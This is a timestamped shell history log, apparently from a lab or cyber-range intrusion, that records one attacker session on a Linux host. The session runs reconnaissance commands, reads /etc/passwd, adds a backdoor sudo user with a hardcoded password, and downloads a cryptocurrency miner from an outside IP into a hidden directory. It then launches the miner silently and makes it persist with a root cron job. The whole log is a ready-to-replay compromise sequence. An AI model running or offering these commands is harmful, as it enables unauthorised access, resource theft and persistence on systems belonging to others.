#1796073537
id; uname -a
#1796073538
cat /etc/passwd | tail -5
#1796073540
sudo -l
#1796073543
sudo useradd -m -s /bin/bash -G sudo sysbak
#1796073544
echo sysbak:Zx9Zx9Zx9 | sudo chpasswd
#1796073546
mkdir -p /var/tmp/.cache; cd /var/tmp/.cache
#1796073547
sudo wget -q http://203.0.113.80/xmrig -O /var/tmp/.cache/xmrig
#1796073549
sudo chmod +x /var/tmp/.cache/xmrig
#1796073550
sudo nohup /var/tmp/.cache/xmrig -o stratum+tcp://pool.xmr.example:4444 -u range.wallet.of.nobody -B >/dev/null 2>&1 &
#1796073552
echo '* * * * * /var/tmp/.cache/xmrig -o stratum+tcp://pool.xmr.example:4444 -u range.wallet.of.nobody -B >/dev/null 2>&1' | sudo crontab -
#1796073553
exit
